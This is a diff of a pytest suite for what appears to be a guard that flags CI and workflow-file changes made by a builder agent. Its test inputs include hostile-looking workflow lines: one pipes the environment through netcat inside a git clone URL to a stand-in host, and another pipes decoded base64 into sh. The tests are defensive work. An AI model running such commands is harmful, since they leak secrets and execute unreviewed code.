@@ -29,6 +29,10 @@ JOBS = "SELECT count(*) FROM procrastinate_jobs WHERE args->>'build_id' = '{}' A
         (CI, True), (".github/Workflows/CI.yml", True), (".github/workflows", True), (".github", True), ("docs/CODEOWNERS", True),
         (".github/actions/x/action.yml", True), ("boundaries.json", True), ("Forge/Contracts/boundaries.json", True),
         (".github/forgeguard.yml", True), (".gitleaks.toml", True), (".circleci/config.yml", True), (".pre-commit-config.yaml", True),
+        ("tools/act/action.yml", True), (".cirrus.yml", True), (".semaphore/semaphore.yml", True), (".tekton/push.yaml", True),
+        ("buildspec.yml", True), (".drone.star", True), ("ci/Jenkinsfile.deploy", True), (".github/dependabot.yml", True),
+        (".github/settings.yml", True), ("renovate.json5", True), (".gitmodules", True), (".github/scripts/run.sh", True),
+        (".github/workflows/README.md", True), (".github/CONTRIBUTING.md", False), (".github/ISSUE_TEMPLATE/bug.yml", False),
         (".github/ISSUE_TEMPLATE.md", False), ("workflows/ci.yml", False), ("src/boundaries.py", False), (".githubx/workflows", False),
     ],
 )  # fmt: skip
@@ -148,14 +152,17 @@ async def test_an_approval_holds_for_its_content_where_the_work_was_lost(
 @pytest.mark.parametrize(
     ("script", "reason"),
     [
-        ("head -c 40000 /dev/zero | tr '\\0' x", "longer than the 32 KB"),
-        ("printf 'on: push\\0'", "is no text"),
+        (f"head -c 40000 /dev/zero | tr '\\0' x > {CI}", "longer than the 32 KB"),
+        (f"printf 'on: push\\0' > {CI}", "is no text"),
+        (f"echo x > run.yml; ln -sf ../../run.yml {CI}", "is a link, whose target may change"),
+        (f"echo 'run: git clone https://x:$(env|nc$IFS)@example.invalid/a' > {CI}", "looks like a secret"),
+        (f'echo "run: echo $(head -c 60 /dev/urandom | base64 -w0) | base64 -d | sh" > {CI}', ""),
     ],
 )
 async def test_what_nobody_could_review_goes_back_to_the_builder(
     dsn: str, tmp_path: Path, tree: WorkTree, script: str, reason: str
 ) -> None:
-    writes = f"date +%N > t; mkdir -p .github/workflows; {script} > {CI}"
+    writes = f"date +%N > t; mkdir -p .github/workflows; {script}"
     async with running(dsn, tmp_path / "p", builder=agent(writes)) as product:
         place = await ready(product, tree)
         done = await place.ended(await place.start())
@@ -164,8 +171,20 @@ async def test_what_nobody_could_review_goes_back_to_the_builder(
         assert CI in str(done.error_detail)
 
 
+async def test_a_file_that_takes_the_place_of_a_link_is_looked_at_too(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
+    script = f"rm {CI}; printf '# \\000' > {CI}; date +%N > t"
+    async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
+        place = await ready(product, tree)
+        (tree.folder / ".github/workflows").mkdir(parents=True)
+        (tree.folder / CI).symlink_to("../../README.md")
+        tree.commit({"b.txt": "x"})
+        await product.push(tree, place.repository)
+        done = await place.ended(await place.start())
+        assert "is no text" in str(done.error_detail), await place.text(done.id)
+
+
 async def test_a_difference_shows_every_line_and_mode(dsn: str, tmp_path: Path, tree: WorkTree) -> None:
-    script = f"{WRITES_CI}; printf -- '++ hidden\\n-- also\\n' >> {CI}; chmod 755 {CI}; ln -s ../evil .github/actions"
+    script = f"{WRITES_CI}; printf -- '++ hidden\\n-- also\\n' >> {CI}; chmod 755 {CI}"
     async with running(dsn, tmp_path / "p", builder=agent(script)) as product:
         place = await ready(product, tree)
         _, changes = await place.asked(await place.start())
@@ -173,8 +192,6 @@ async def test_a_difference_shows_every_line_and_mode(dsn: str, tmp_path: Path, 
         assert "+++ hidden" in shown[CI]
         assert "+-- also" in shown[CI]
         assert "new file mode 100755" in shown[CI]
-        assert "new file mode 120000" in shown[".github/actions"]
-        assert "+../evil" in shown[".github/actions"]
 
 
 async def test_boundaries_that_the_settings_name_decide_whatever_their_names(
